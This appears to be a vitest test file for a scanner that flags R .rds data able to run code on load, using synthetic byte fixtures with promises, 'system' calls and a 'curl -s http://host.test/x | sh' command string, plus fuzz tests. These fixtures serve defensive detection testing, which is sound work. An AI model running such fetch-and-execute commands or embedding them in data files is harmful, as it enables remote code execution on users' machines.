import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { inspectFiles } from '../../artifact/inspect/inspect-files.ts';
import { bytesOf, type ByteSource } from '../../core/byte-source.ts';
import { alarms, findingsOf } from '../testing/findings-of.ts';
import { rObjects } from './index.ts';

vi.setConfig({ testTimeout: 60_000 });

const word = (value: number): number[] => [(value >>> 24) & 255, (value >>> 16) & 255, (value >>> 8) & 255, value & 255];
const text = (value: string): number[] => [...word(0x40009), ...word(value.length), ...[...value].map((character) => character.charCodeAt(0))];
const symbol = (name: string): number[] => [...word(1), ...text(name)];
const NIL = word(254);
const strings = (...values: readonly string[]): number[] => [...word(16), ...word(values.length), ...values.flatMap(text)];
const list = (...items: readonly number[][]): number[] => [...items.flatMap((item) => [...word(2), ...item]), ...NIL];
const call = (name: string, ...given: readonly number[][]): number[] => [...word(6), ...symbol(name), ...list(...given)];
const promise = (expression: readonly number[]): number[] => [...word(0x405), ...word(253), ...word(252), ...expression];
const closure = (body: readonly number[]): number[] => [...word(0x403), ...word(253), ...NIL, ...body];
const variable = (name: string, value: readonly number[]): number[] => [...word(0x402), ...symbol(name), ...value];
const values = (...items: readonly number[][]): number[] => [...word(19), ...word(items.length), ...items.flat()];
const data = (body: readonly number[], workspace = false): ByteSource => bytesOf('model.rds', Uint8Array.from([...(workspace ? [82, 68, 88, 51, 10] : []), 88, 10, ...word(3), ...word(0x40301), ...word(0x30500), ...word(5), 85, 84, 70, 45, 56, ...body]));
const judge = async (file: ByteSource): Promise<string[]> => alarms(await findingsOf(rObjects, [file]));

/** As compiled functions are written: instructions, then constants, the call among them in a way of its own. */
const compiled = (name: string): number[] => [...word(21), ...word(1), ...word(13), ...word(1), ...word(10), ...word(1), ...word(6), ...NIL, ...word(0), ...symbol(name), ...word(0), ...NIL];

describe('R data that runs code', () => {
  it.each<readonly [string, ByteSource, string]>([
    ['a promise in the place of the value', data(promise(call('sum', strings('a')))), 'high ASY-RDA-001'],
    ['a promise in the place of a variable', data([...variable('x', promise(call('f'))), ...NIL], true), 'high ASY-RDA-001'],
    ['a call that starts a program', data(call('system', strings('true'))), 'high ASY-RDA-002'],
    ['the same through its package', data([...word(6), ...call('::', symbol('base'), symbol('system')), ...list(strings('true'))]), 'high ASY-RDA-002'],
    ['a call in a promise of an environment', data(values([...word(4), ...word(0), ...word(242), ...variable('y', promise(call('system2', strings('x')))), ...NIL, ...NIL, ...NIL])), 'high ASY-RDA-002'],
    ['a call in a function', data(closure(call('system', strings('x')))), 'medium ASY-RDA-002'],
    ['a call in a compiled function', data(closure(compiled('system'))), 'medium ASY-RDA-002'],
    ['a command in a text', data(strings('curl -s http://host.test/x | sh')), 'medium ASY-RDA-003'],
  ])('reports %s', async (_, file, alarm) => {
    expect(await judge(file)).toContain(alarm);
  });

  it.each<readonly [string, ByteSource]>([
    ['a fitted model with the call that made it', data(values([...word(14), ...word(2), ...Array.from({ length: 16 }, () => 0)], call('lm', symbol('y'), symbol('x')), strings('(Intercept)', 'system_load')))],
    ['a function that evaluates', data(closure(call('eval', call('parse', strings('x')), call('source', strings('helpers.R')))))],
    ['a promise that a function kept', data(values([...word(4), ...word(0), ...word(242), ...variable('y', promise(call('mean', strings('x')))), ...NIL, ...NIL, ...NIL]))],
  ])('leaves alone %s', async (_, file) => {
    expect(await judge(file)).toEqual([]);
    expect((await inspectFiles([file])).files[0]).toMatchObject({ format: 'r', status: 'inspected' });
  });

  it.each<readonly [string, Uint8Array<ArrayBuffer>]>([
    ['as text', new TextEncoder().encode('A\n3\n262145\n197888\n5\nUTF-8\n6\n1\n262153\n6\nsystem\n2\n14\n3\n1\nNA\n2.5e-3\n2\n16\n2\n262153\n9\nls\\040-la\\n~\n262153\n0\n\n254\n')],
    ['in the form of one machine', Uint8Array.from([66, 10, ...[3, 0x40301, 0x30500, 5].flatMap((value) => word(value).reverse()), 85, 84, 70, 45, 56, ...[6, 1, 0x40009, 6].flatMap((value) => word(value).reverse()), ...[...'system'].map((character) => character.charCodeAt(0)), ...word(254).reverse()])],
  ])('reads what is written %s', async (_, bytes) => {
    const file = bytesOf('m.rds', bytes);
    expect(await judge(file)).toEqual(['high ASY-RDA-002']);
    expect((await inspectFiles([file])).files[0]).toMatchObject({ format: 'r', status: 'inspected' });
  });

  it('ends on damaged text of R', async () => {
    const whole = 'A\n3\n262145\n197888\n5\nUTF-8\n6\n1\n262153\n6\nsystem\n2\n14\n3\n1\nNA\n2.5e-3\n2\n16\n1\n262153\n4\ntrue\n254\n';
    await fc.assert(
      fc.asyncProperty(fc.nat(whole.length), fc.nat(whole.length - 1), fc.constantFrom('9', '-', '\n', ' ', '\\', 'N', '0'), async (length, at, character) => {
        const file = bytesOf('x.rds', new TextEncoder().encode((whole.slice(0, at) + character + whole.slice(at + 1)).slice(0, length)));
        await judge(file);
        expect((await inspectFiles([file])).files.flatMap(({ problems }) => problems).some(({ actual }) => actual?.includes('an error inside the reader'))).toBe(false);
      }),
      { numRuns: Number(process.env['FUZZ_RUNS'] ?? 300) },
    );
  });

  it('ends on truncated, changed and random data, and never throws', async () => {
    const whole = await data(values(call('lm', symbol('x')), closure(compiled('f')), promise(call('g')), strings('a', 'b'))).slice(0, 4096);
    const body = fc.oneof(fc.uint8Array({ maxLength: 200 }), fc.tuple(fc.nat(whole.length), fc.nat(whole.length - 1), fc.nat(255)).map(([length, at, byte]) => Uint8Array.from(whole.slice(0, length), (old, i) => (i === at ? byte : old))), fc.array(fc.constantFrom(...[2, 6, 5, 3, 4, 19, 16, 21, 1, 254, 255, 22, 238, 0x402].map((flags) => word(flags))), { maxLength: 60 }).map((words) => Uint8Array.from([...whole.slice(0, 23), ...words.flat()])));
    await fc.assert(
      fc.asyncProperty(body, async (bytes) => {
        const file = bytesOf('x.rds', Uint8Array.from(bytes));
        await judge(file);
        const { files } = await inspectFiles([file]);
        expect(files[0]?.ranges.reduce((sum, { begin, end }) => sum + end - begin, 0)).toBe(bytes.length);
      }),
      { numRuns: Number(process.env['FUZZ_RUNS'] ?? 300) },
    );
  });
});
